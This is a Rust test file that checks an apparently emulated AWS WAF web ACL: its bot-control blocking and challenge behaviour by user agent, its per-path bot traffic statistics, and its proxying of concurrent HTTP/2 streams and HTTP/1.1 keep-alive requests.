    assert_eq!(status("curl/8.5.0").await, 403, "an HTTP library");
    assert_eq!(status("Scrapy/2.11 (+https://scrapy.org)").await, 403, "a scraping framework");
    let chrome =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
    assert_eq!(status(chrome).await, 200, "a browser");
    let googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    assert_eq!(status(googlebot).await, 200, "Googlebot from an address its list verifies");
    assert_eq!(
        status("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)").await,
        403,
        "Bingbot, unverified"
    );
    // The targeted level: a browser without a token is challenged once it has sent five
    // requests (AWS's TGT_VolumetricIpTokenAbsent); a verified bot is let be.
    waf(&server)
        .update_web_acl()
        .name("bots")
        .scope(Scope::Regional)
        .id(acl.id().unwrap())
        .lock_token(acl.lock_token().unwrap())
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(bot_control(InspectionLevel::Targeted))
        .visibility_config(visibility("bots"))
        .send()
        .await
        .unwrap();
    for _ in 0..5 {
        assert_eq!(status(chrome).await, 200);
    }
    assert_eq!(status(chrome).await, 202, "challenged");
    assert_eq!(status(googlebot).await, 200, "a verified bot is not challenged");

    // Bot traffic by path: every request Bot Control took for a named bot's, whatever became of
    // it (five at `/` so far: curl, Scrapy, Bingbot, Googlebot twice), and three more under `/api/`.
    for path in ["/api/v1/users", "/api/v2/orders", "/api/v1/users"] {
        send(&client, "GET", &format!("http://{shop}{path}"), &[("user-agent", "curl/8.5.0")], "").await;
    }
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as i64;
    let window = aws_sdk_wafv2::types::TimeWindow::builder()
        .start_time(aws_sdk_wafv2::primitives::DateTime::from_secs(now - 600))
        .end_time(aws_sdk_wafv2::primitives::DateTime::from_secs(now + 60))
        .build()
        .unwrap();
    let top = || {
        waf(&server)
            .get_top_path_statistics_by_traffic()
            .web_acl_arn(acl.arn().unwrap())
            .scope(Scope::Regional)
            .time_window(window.clone())
            .limit(10)
            .number_of_top_traffic_bots_per_path(2)
    };
    let mut all = top().send().await.unwrap();
    for _ in 0..50 {
        if all.total_request_count() >= 8 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        all = top().send().await.unwrap();
    }
    assert_eq!(all.total_request_count(), 8);
    let paths: Vec<(&str, i64)> = all.path_statistics().iter().map(|p| (p.path(), p.request_count())).collect();
    assert_eq!(paths, [("/", 5), ("/api/", 3)]);
    let root = &all.path_statistics()[0];
    assert_eq!(root.top_bots()[0].bot_name(), "googlebot");
    assert_eq!((root.top_bots().len(), root.percentage()), (2, 62.5));
    assert!(all.top_categories().iter().any(|c| c.source().and_then(|s| s.bot_category()) == Some("http_library")));
    let api = top().uri_path_prefix("/api").send().await.unwrap();
    let paths: Vec<(&str, i64)> = api.path_statistics().iter().map(|p| (p.path(), p.request_count())).collect();
    assert_eq!(paths, [("/api/v1/users", 2), ("/api/v2/orders", 1)]);
    let curl = top().bot_name("curl").send().await.unwrap();
    assert_eq!(curl.total_request_count(), 4);
    assert_eq!(curl.path_statistics()[0].source().and_then(|s| s.bot_name()), Some("curl"));
    assert!(curl.top_categories().is_empty(), "categories only without a filter");
}

/// An HTTP/2 client's requests, many at once on one connection, each reach the upstream once,
/// decided by the web ACL one by one, and are answered on their own streams; an HTTP/1.1 client's
/// keep-alive connection carries one request after another to it.
#[tokio::test]
async fn http2_streams_and_keep_alive_requests_each_reach_the_upstream() {
    let (server, shop) = proxied("shop", "front").await;
    web_acl_blocking_admin(&server, "front").await;
    let h2 = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .http2_only(true)
        .build_http::<http_body_util::Full<bytes::Bytes>>();
    let asked: Vec<String> =
        (0..24).map(|i| if i % 4 == 3 { format!("/admin/{i}") } else { format!("/items/{i}?n={i}") }).collect();
    // All sent before any is awaited: concurrent streams of the one connection.
    let sent: Vec<_> = asked
        .iter()
        .map(|path| {
            let h2 = h2.clone();
            let url = format!("http://{}{path}", shop.addr);
            tokio::spawn(async move {
                let response = h2.get(url.parse().unwrap()).await.unwrap();
                assert_eq!(response.version(), http::Version::HTTP_2);
                let status = response.status().as_u16();
                let body = http_body_util::BodyExt::collect(response.into_body()).await.unwrap().to_bytes();
                (status, String::from_utf8_lossy(&body).into_owned())
            })
        })
        .collect();
    let mut answers = Vec::new();
    for s in sent {
        answers.push(s.await.unwrap());
    }
    for (path, (status, body)) in asked.iter().zip(&answers) {
        if path.starts_with("/admin") {
            assert_eq!(*status, 403, "{path}: {body}");
        } else {
            assert_eq!(*status, 200, "{path}: {body}");
            let seen: serde_json::Value = serde_json::from_str(body).unwrap();
            assert_eq!(seen["path"], path.as_str(), "each stream gets its own request's answer");
            assert_eq!(seen["forwardedFor"], "127.0.0.1");
            // HTTP/2 names the host in the request's authority; HTTP/1.1's upstream gets `Host`.
            assert_eq!(seen["host"], shop.addr.to_string());
        }
    }
    // HTTP/1.1, one connection, one request after another.
    let h1 = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .pool_max_idle_per_host(1)
        .build_http::<http_body_util::Full<bytes::Bytes>>();
    for i in 0..20 {
        let path = format!("/h1/{i}");
        let response = h1.get(format!("http://{}{path}", shop.addr).parse().unwrap()).await.unwrap();
        assert_eq!(response.status(), 200);
        let body = http_body_util::BodyExt::collect(response.into_body()).await.unwrap().to_bytes();
        let seen: serde_json::Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(seen["path"], path.as_str());
    }
}
